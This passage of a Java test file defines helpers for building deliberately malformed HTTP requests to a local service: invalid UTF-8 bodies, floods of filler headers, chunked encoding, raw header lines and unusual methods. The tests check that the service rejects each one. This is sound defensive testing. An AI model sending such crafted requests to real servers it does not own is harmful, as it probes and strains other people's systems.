        return new Case(name, "POST", target, code).json(body);
    }

    /** Percent-encodes every byte of the UTF-8 form but unreserved characters. */
    static String enc(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            if (c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0)) {
                out.append(c);
            } else {
                out.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return out.toString();
    }

    /** A string whose chars are the UTF-8 bytes of {@code value}: what a client puts on the wire. */
    private static String utf8AsLatin1(String value) {
        return new String(value.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
    }

    private static byte[] invalidUtf8() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("{\"status\":\"".getBytes(StandardCharsets.UTF_8));
        out.writeBytes(new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc0, (byte) 0xae});
        out.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static String manyHeaders(int kib) {
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < kib; i++) {
            lines.add("X-Filler-" + i + ": " + "f".repeat(1000));
        }
        return String.join("\r\n", lines);
    }

    /** One hostile request: its name (the assertion messages'), the request, and the code expected if one is. */
    static final class Case {

        private static int next;

        final String name;
        final String code;
        final String dossierId = "HOSTILE-" + RUN + "-" + (++next);
        private String method;
        private final String target;
        private String version = "HTTP/1.1";
        private final Map<String, List<String>> headers = new LinkedHashMap<>();
        private final List<String> rawLines = new ArrayList<>();
        private byte[] body;
        private boolean halfClose;
        private boolean containerOnly;

        Case(String name, String method, String target, String code) {
            this.name = name;
            this.method = method;
            this.target = target;
            this.code = code;
            header("Host", "127.0.0.1");
            header("Connection", "close");
            header("X-API-Key", PROVINCIAL_KEY);
            header("X-Correlation-Id", "hostile-" + next);
        }

        Case lookupContext() {
            return header("X-Dossier-Id", dossierId).header("X-Procedure-Code", "1.001612");
        }

        Case certificate() {
            return lookupContext();
        }

        Case json(String json) {
            header("Content-Type", "application/json");
            return json == null ? this : body(json.getBytes(StandardCharsets.UTF_8));
        }

        Case header(String name, String value) {
            headers.put(name, new ArrayList<>(List.of(value)));
            return this;
        }

        Case add(String name, String value) {
            headers.computeIfAbsent(name, n -> new ArrayList<>()).add(value);
            return this;
        }

        Case remove(String name) {
            headers.remove(name);
            return this;
        }

        Case raw(String line) {
            rawLines.add(line);
            return this;
        }

        Case method(String method) {
            this.method = method;
            return this;
        }

        Case version(String version) {
            this.version = version;
            return this;
        }

        Case body(byte[] body) {
            this.body = body;
            if (!headers.containsKey("Content-Length") && !headers.containsKey("Transfer-Encoding")) {
                header("Content-Length", String.valueOf(body.length));
            }
            return this;
        }

        Case chunked(String content) {
            byte[] bytes = content.getBytes(StandardCharsets.UTF_8);
            header("Transfer-Encoding", "chunked");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            for (int at = 0; at < bytes.length; at += 8192) {
                int size = Math.min(8192, bytes.length - at);
                out.writeBytes((Integer.toHexString(size) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                out.write(bytes, at, size);
                out.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
            }
            out.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            this.body = out.toByteArray();
            return this;
        }

        /**
         * Answered by Tomcat or the servlet layer with a bare 4xx and no body: a method the
         * dispatcher cannot route even to the error controller (TRACE, unknown methods), or a
         * client that closed its side mid-body. The hub's code never runs; status and no
         * upstream call are still checked.
         */
        Case containerOnly() {
            this.containerOnly = true;
            return this;
        }

        Case halfClose() {
            this.halfClose = true;
            return this;
        }

        byte[] bytes() {
            StringBuilder head = new StringBuilder(method + " " + target + " " + version + "\r\n");
            headers.forEach((name, values) -> values.forEach(value -> head.append(name).append(": ").append(value).append("\r\n")));
            rawLines.forEach(line -> head.append(line).append("\r\n"));
            head.append("\r\n");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(head.toString().getBytes(StandardCharsets.ISO_8859_1));
            if (body != null) {
                out.writeBytes(body);
            }
            return out.toByteArray();
        }

        @Override
        public String toString() {
            return name;
        }
    }
}
